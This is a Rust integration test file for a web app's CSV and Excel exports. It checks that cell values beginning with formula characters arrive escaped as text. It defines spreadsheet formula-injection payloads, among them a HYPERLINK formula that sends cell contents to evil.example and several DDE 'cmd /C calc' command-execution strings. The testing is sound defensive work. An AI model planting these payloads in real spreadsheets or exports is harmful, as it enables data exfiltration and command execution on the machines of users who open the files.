//! CSV formula injection (issue 9, point 4): text a department or HQ wrote that
//! starts like a formula reaches HQ's Excel through `list.csv` and
//! `indicators.csv`. Every such cell must arrive as text (a leading `'`, with
//! exactly what was written after it); the workbook keeps it as a text cell.

use std::io::Cursor;

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use hyoka::domain::permission::Role;

use crate::support::{Client, Probe, TestApp};

/// What starts a formula in Excel when it opens a CSV file.
const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r'];

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"詳細\")";
const CALC: &str = "=cmd|' /C calc'!A0";
const PLUS: &str = "+cmd|' /C calc'!A0";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";
const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const TAB: &str = "\t=1+1";
const CR: &str = "\r=HYPERLINK(\"http://evil.example/\")";

/// A stored value as its CSV cell reads: escaped when it would start a formula.
pub fn csv_text(value: &str) -> String {
    if value.starts_with(FORMULA_START) {
        format!("'{value}")
    } else {
        value.to_string()
    }
}

/// The rows of a CSV download, read as Excel's reader would (BOM removed).
async fn csv_rows(hq: &Client, path: &str) -> Vec<Vec<String>> {
    let resp = hq.get(path).await;
    assert_eq!(resp.status().as_u16(), 200, "{path}");
    let bytes = resp.bytes().await.unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// No cell of the file starts a formula; returns the cells that were escaped,
/// without their `'`.
fn escaped_cells(rows: &[Vec<String>], file: &str) -> Vec<String> {
    let mut escaped = Vec::new();
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(FORMULA_START),
            "{file}: live formula {cell:?}"
        );
        if let Some(rest) = cell.strip_prefix('\'') {
            escaped.push(rest.to_string());
        }
    }
    escaped
}

fn assert_written_exactly(escaped: &[String], payloads: &[&str], file: &str) {
    for payload in payloads {
        assert!(
            escaped.iter().any(|c| c == payload),
            "{file}: {payload:?} not found as '{payload:?} in {escaped:?}"
        );
    }
}

/// HQ adds the payloads to the dropdowns and the department picks them and
/// types the others into its sheet, as users would; what the form cannot
/// write (plan fields, year-end evaluations, a leading carriage return) is
/// stored behind the app.
async fn store_payloads(app: &TestApp, hq: &Client) -> i32 {
    for (list, value) in [("progress", HYPERLINK), ("method", PLUS)] {
        let resp = hq.add_choice(list, value).await;
        assert_eq!(resp.status().as_u16(), 303, "choice {value}");
    }
    let id = app.sheet_id(2025, 1, 1);
    let staff = app.staff_of("職員課").await;
    let fields = [
        ("h1_progress", HYPERLINK),
        ("i0_name", CALC),
        ("i0_method", PLUS),
        ("i0_baseline", MINUS),
        ("i0_first_half", TAB),
        ("i0_target", AT),
    ];
    let resp = staff.fill_and_save(id, &fields).await;
    assert_eq!(resp.status().as_u16(), 303, "the department saves");
    let mut conn = app.conn();
    for (key, payload) in [("h1_progress", HYPERLINK), ("i0_name", CALC)] {
        let stored = match key {
            "h1_progress" => conn.text(id, key),
            _ => conn.load_sheet(id).content.indicators[0].name.clone(),
        };
        assert_eq!(stored, payload, "stored as typed");
    }
    conn.force_text(id, "related_plan", CR);
    conn.force_text(id, "dept_evaluation", AT);
    conn.force_text(id, "hq_evaluation", MINUS);
    id
}

#[tokio::test]
async fn formula_payloads_reach_both_csv_files_as_text() {
    let app = TestApp::spawn().await;
    let hq = app.login_as(Role::Hq).await;
    store_payloads(&app, &hq).await;

    let list = csv_rows(&hq, "/reports/2025/list.csv?include_drafts=1").await;
    assert_eq!(list.len(), 13, "header and twelve sheets");
    let escaped = escaped_cells(&list, "list.csv");
    assert_written_exactly(&escaped, &[HYPERLINK, CR, AT, MINUS], "list.csv");

    let indicators = csv_rows(&hq, "/reports/2025/indicators.csv?include_drafts=1").await;
    let escaped = escaped_cells(&indicators, "indicators.csv");
    assert_written_exactly(&escaped, &[CALC, PLUS, MINUS, TAB, AT], "indicators.csv");
}

#[tokio::test]
async fn the_workbook_keeps_formula_payloads_as_text_cells() {
    let app = TestApp::spawn().await;
    let hq = app.login_as(Role::Hq).await;
    let id = store_payloads(&app, &hq).await;
    let resp = hq.get("/reports/2025/export.xlsx?include_drafts=1").await;
    assert_eq!(resp.status().as_u16(), 200);
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(resp.bytes().await.unwrap())).unwrap();
    let sheet = {
        let s = app.conn().load_sheet(id);
        format!(
            "({})-{}",
            s.context.area_number, s.context.initiative_number
        )
    };
    for (name, payloads) in [
        ("一覧", &[HYPERLINK, CR, AT, MINUS][..]),
        ("指標", &[CALC, PLUS, MINUS, TAB, AT][..]),
        (sheet.as_str(), &[HYPERLINK, CALC, AT][..]),
    ] {
        // No formula anywhere: every cell is a string cell.
        let formulas = wb.worksheet_formula(name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{name} holds formulas"
        );
        let cells = wb.worksheet_range(name).unwrap();
        for payload in payloads {
            assert!(
                cells
                    .used_cells()
                    .any(|(_, _, v)| matches!(v, Data::String(s) if s == payload)),
                "{name}: {payload:?} is not a text cell as written"
            );
        }
    }
}
